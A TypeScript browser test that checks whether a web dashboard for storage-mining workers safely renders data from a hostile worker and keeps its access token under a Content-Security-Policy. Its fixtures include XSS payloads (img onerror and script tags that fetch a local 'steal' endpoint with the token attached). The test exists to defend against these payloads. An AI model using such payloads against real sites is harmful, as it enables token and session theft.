// The dashboard in headless Chromium (Debian's `chromium`, driven by playwright-core), filled with payloads from a
// hostile worker: the page must draw them as text, run under its Content-Security-Policy without a single
// violation, and never send the token anywhere. Skipped, saying so, when chromium is absent.
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { setupLogging } from '../../common/log.js';
import { createToken, generateSecret, RpcServer } from '../../rpc/index.js';
import type { ManagerConfig } from '../config.js';
import { ManagerStore } from '../db.js';
import { openTestDb } from '../sql/pg.test-util.js';
import { FakeChain } from '../testkit.js';
import { Dashboard } from './index.js';

setupLogging({ levelSpec: 'warn' });

/** The page's document, inside page.evaluate (this project compiles without the DOM's types). */
declare const document: {
  querySelectorAll(selector: string): { length: number };
  scripts: { length: number };
  getElementById(id: string): { textContent: string | null } | null;
};

/** Debian's chromium; CHROMIUM_PATH overrides. */
const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';

test('dashboard in Chromium: hostile worker data renders as text under the CSP, the token goes nowhere, buttons work', {
  skip: existsSync(CHROMIUM) ? undefined : `${CHROMIUM} not found (apt-get install -y chromium)`,
  timeout: 180_000,
}, async () => {
  // where a successful payload would send the token
  const stolen: string[] = [];
  const collector = createServer((req, res) => {
    stolen.push(req.url ?? '');
    res.end();
  });
  await new Promise<void>((r) => collector.listen(0, '127.0.0.1', r));
  const steal = `http://127.0.0.1:${(collector.address() as AddressInfo).port}/steal`;
  const xss = (via: string) =>
    `<img src=x onerror="fetch('${steal}?via=${via}&t='+token)"><script>fetch('${steal}?via=${via}s')</script>`;

  // a worker control API answering with payloads, recording what it is asked
  const asked: { method: string; auth: string | undefined }[] = [];
  const worker = createServer(async (req, res) => {
    let body = '';
    for await (const c of req) body += c;
    const { method } = JSON.parse(body) as { method: string };
    asked.push({ method, auth: req.headers.authorization });
    const result =
      method === 'VenusWorker.WorkerList'
        ? [
            {
              index: 0,
              location: xss('location'),
              plan: 'sealer',
              job_id: xss('job'),
              job_state: xss('jobstate'),
              job_stage: null,
              thread_state: { state: 'Running', elapsed: 3, proc: null },
              last_error: xss('lasterror'),
            },
          ]
        : true;
    res.writeHead(200, { 'Content-Type': 'application/json' }).end(JSON.stringify({ jsonrpc: '2.0', id: 1, result }));
  });
  await new Promise<void>((r) => worker.listen(0, '127.0.0.1', r));
  const dest = `127.0.0.1:${(worker.address() as AddressInfo).port}`;

  const store = new ManagerStore(openTestDb(':memory:'));
  const chain = new FakeChain();
  chain.addMiner(1000);
  const config = () => ({ SectorManager: { PreFetch: true, Miners: [{ ID: 1000 }] } }) as unknown as ManagerConfig;
  const secret = generateSecret();
  const dash = new Dashboard({ store, chain: chain.api(), config, secret, workerListTtlMs: 500 });
  const server = new RpcServer({ auth: null });
  dash.mount(server);
  const addr = await server.listen('127.0.0.1:0');
  const base = `http://127.0.0.1:${addr.port}`;

  const name = xss('name');
  store.pingWorker({ Name: name, Dest: dest, Version: 'x', Summary: { Threads: 1 } } as never);
  dash.notePing(name, '127.0.0.1:50000');
  store.pingWorker({ Name: 'no-summary', Dest: '', Version: xss('version'), Summary: xss('summary') } as never);
  store.putSector(
    {
      ID: { Miner: 1000, Number: 1 },
      Finalized: false,
      AbortReason: '',
      LatestState: {
        Worker: { Instance: 'w', Location: xss('worker') },
        StateChange: { Prev: '', Next: xss('state'), Event: xss('event') },
        Failure: { Level: 'x', Desc: xss('failure') },
      },
    } as never,
    true,
  );
  // a ReportState without Worker (M9) and a 1 MB LatestState
  store.putSector(
    {
      ID: { Miner: 1000, Number: 2 },
      Finalized: false,
      AbortReason: '',
      LatestState: {
        StateChange: { Prev: '', Next: 'PC1', Event: 'e' },
        Failure: { Level: 'x', Desc: 'B'.repeat(1 << 20) },
      },
    } as never,
    true,
  );
  store.recordPoSt({ miner: 't01000', deadline: 0, ok: false, epoch: 0, proven: 0, faulty: 1 });

  const { chromium } = await import('playwright-core');
  const userDir = mkdtempSync(join(tmpdir(), 'dash-chromium-'));
  const browser = await chromium.launchPersistentContext(userDir, {
    executablePath: CHROMIUM,
    headless: true,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking'],
  });
  try {
    const page = await browser.newPage();
    const messages: string[] = [];
    page.on('console', (m) => {
      if (m.type() === 'error' || m.type() === 'warning') messages.push(m.text());
    });
    page.on('pageerror', (e) => messages.push(`pageerror: ${e.message}`));
    const admin = await createToken(secret, 'admin');
    await page.goto(`${base}/?token=${encodeURIComponent(admin)}`);
    await page.locator('tr[data-thread]').first().waitFor({ timeout: 60_000 });
    await page.locator('tr[data-sector]').nth(1).waitFor({ timeout: 60_000 });

    const threads = (await page.locator('#threads').textContent()) ?? '';
    assert.ok(threads.includes(xss('name')), 'the worker name is shown as text');
    assert.ok(threads.includes(xss('lasterror').slice(0, 150)), 'the last error is shown as text');
    assert.ok(((await page.locator('#sectors').textContent()) ?? '').includes(xss('state').slice(0, 64)));
    assert.equal(
      await page.evaluate(() => document.querySelectorAll('img, script:not(:first-of-type), iframe').length),
      0,
    );
    assert.equal(await page.evaluate(() => document.scripts.length), 1, 'only the page’s own script');

    // the pause button reaches the worker with the manager's admin token
    await page.locator('tr[data-thread] button[data-a="pause"]').click();
    const deadline = Date.now() + 20_000;
    while (!asked.some((a) => a.method === 'VenusWorker.WorkerPause') && Date.now() < deadline)
      await new Promise((r) => setTimeout(r, 100));
    const pause = asked.find((a) => a.method === 'VenusWorker.WorkerPause');
    assert.ok(pause, 'the worker was asked to pause');
    assert.match(pause.auth ?? '', /^Bearer ey/);
    assert.equal(await page.evaluate(() => document.getElementById('notice')?.textContent), '', 'no failure shown');

    await new Promise((r) => setTimeout(r, 1_000)); // any payload that ran would have reported by now
    assert.deepEqual(stolen, [], 'no payload ran');
    assert.deepEqual(messages, [], 'no CSP violation or script error');
    const headers = (await page.goto(`${base}/`))?.headers() ?? {};
    assert.match(headers['content-security-policy'] ?? '', /script-src 'sha256-/);
  } finally {
    await browser.close();
    rmSync(userDir, { recursive: true, force: true });
    dash.close();
    await server.close();
    await new Promise<void>((r) => worker.close(() => r()));
    await new Promise<void>((r) => collector.close(() => r()));
  }
});
